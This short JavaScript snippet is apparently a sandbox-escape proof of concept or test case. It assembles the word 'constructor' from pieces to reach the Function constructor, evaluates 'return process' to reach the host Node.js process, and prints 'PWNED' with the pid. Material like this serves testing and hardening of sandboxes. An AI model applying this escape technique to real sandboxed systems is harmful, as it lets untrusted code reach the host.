'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
class K { constructor(x) { this.x = x; } }
const o = Date.now() > 1 ? new K(...[t]).x : {};
console.log('PWNED', o.go(fn)('return process')().pid);
